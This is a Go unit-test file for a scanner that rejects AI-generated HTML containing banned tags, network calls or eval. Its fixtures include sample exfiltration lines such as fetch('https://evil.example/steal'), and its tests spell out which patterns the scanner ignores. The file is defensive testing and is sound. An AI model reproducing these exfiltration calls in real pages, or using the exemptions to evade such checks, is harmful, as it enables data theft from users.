package scanner

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func wrap(body string) string {
	return `<!DOCTYPE html><html><head></head><body>` + body + `</body></html>`
}

func TestScan_CleanDocumentPasses(t *testing.T) {
	html := wrap(`<h1>Hello</h1><script>console.log("hi")</script>`)
	result := Scan(html)
	require.True(t, result.Passed)
	assert.Empty(t, result.SecurityViolations)
	assert.Empty(t, result.StructureErrors)
	assert.Equal(t, "clean", result.Summary)
}

func TestScan_BannedTags(t *testing.T) {
	cases := map[string]string{
		"iframe": wrap(`<div><iframe src="https://evil.example"></iframe></div>`),
		"embed":  wrap(`<embed src="movie.swf">`),
		"object": wrap(`<object data="movie.swf"></object>`),
	}
	for name, html := range cases {
		t.Run(name, func(t *testing.T) {
			result := Scan(html)
			assert.False(t, result.Passed)
			require.NotEmpty(t, result.SecurityViolations)
			assert.NotEmpty(t, result.SecurityViolations[0].FixHint)
		})
	}
}

func TestScan_BannedCalls(t *testing.T) {
	cases := map[string]string{
		"fetch()":        wrap(`<script>fetch("https://evil.example/steal")</script>`),
		"axios()":        wrap(`<script>axios("https://evil.example")</script>`),
		"axios":          wrap(`<script>axios.get("https://evil.example")</script>`),
		"XMLHttpRequest": wrap(`<script>var x = new XMLHttpRequest();</script>`),
		"$.ajax()":       wrap(`<script>$.ajax({url: "https://evil.example"})</script>`),
		"jQuery.ajax()":  wrap(`<script>jQuery.ajax({url: "https://evil.example"})</script>`),
		"eval()":         wrap(`<script>eval(userInput)</script>`),
		"new Function()": wrap(`<script>new Function("return 1")()</script>`),
	}
	for name, html := range cases {
		t.Run(name, func(t *testing.T) {
			result := Scan(html)
			assert.False(t, result.Passed, "expected violation for %q", html)
			require.NotEmpty(t, result.SecurityViolations)
			assert.Equal(t, name, result.SecurityViolations[0].Name)
			assert.NotEmpty(t, result.SecurityViolations[0].FixHint)
		})
	}
}

func TestScan_FetchFixHintMatchesRuntimeBridgeInstruction(t *testing.T) {
	assert.Equal(t, "Use window.geaRuntimeLLM() for AI calls", FixHint("fetch()"))
}

func TestScan_IgnoresBannedKeywordsInComments(t *testing.T) {
	html := wrap(`<!-- fetch("https://evil.example") --><script>// axios.get("x")
/* eval(1) */</script>`)
	result := Scan(html)
	assert.True(t, result.Passed)
}

func TestScan_IgnoresBannedKeywordsInPlainVisibleText(t *testing.T) {
	html := wrap(`<p>don't call fetch(data) here</p>`)
	result := Scan(html)
	assert.True(t, result.Passed, "banned-looking text outside a script or handler must not be scanned")
}

func TestScan_IgnoresBannedKeywordsInStringLiterals(t *testing.T) {
	html := wrap(`<script>var doc = "call fetch( to load data"; var s = 'no eval( here either';</script>`)
	result := Scan(html)
	assert.True(t, result.Passed)
}

func TestScan_EmptyFetchStubIsLenient(t *testing.T) {
	html := wrap(`<script>function loadData() { return fetch(""); }</script>`)
	result := Scan(html)
	assert.True(t, result.Passed)
}

func TestScan_RealFetchAlongsideStubStillFails(t *testing.T) {
	html := wrap(`<script>fetch(""); fetch("https://evil.example/x");</script>`)
	result := Scan(html)
	assert.False(t, result.Passed)
}

func TestScan_EscapedQuotesInStringDoNotBreakStripping(t *testing.T) {
	html := wrap(`<script>var s = "she said \"fetch(\" to me";</script>`)
	result := Scan(html)
	assert.True(t, result.Passed)
}

func TestScan_ScansInlineEventHandlerAttributes(t *testing.T) {
	html := wrap(`<button onclick="fetch('https://evil.example')">Go</button>`)
	result := Scan(html)
	assert.False(t, result.Passed)
	require.NotEmpty(t, result.SecurityViolations)
	assert.Equal(t, "fetch()", result.SecurityViolations[0].Name)
}

func TestScan_ExemptsInjectedRuntimeBridgeFromFetchCheck(t *testing.T) {
	html := wrap(`<script id="gea-runtime-bridge" data-app-id="app-1">
window.geaRuntimeLLM = function(prompt) { return fetch("/api/runtime/llm"); };
</script>`)
	result := Scan(html)
	assert.True(t, result.Passed, "the host-injected bridge's own fetch calls are trusted, not model output")
}

func TestScan_MissingDoctypeAndHTMLTagIsAStructureError(t *testing.T) {
	result := Scan(`<body><h1>Hello</h1></body>`)
	assert.False(t, result.Passed)
	assert.NotEmpty(t, result.StructureErrors)
}

func TestScan_MissingClosingHTMLTagIsAStructureError(t *testing.T) {
	result := Scan(`<!DOCTYPE html><html><body><h1>Hello</h1></body>`)
	assert.False(t, result.Passed)
	assert.NotEmpty(t, result.StructureErrors)
}

func TestResult_ViolationNamesExtractsCanonicalNames(t *testing.T) {
	result := Scan(wrap(`<script>eval(x); fetch("https://evil.example")</script>`))
	names := result.ViolationNames()
	assert.Contains(t, names, "eval()")
	assert.Contains(t, names, "fetch()")
}
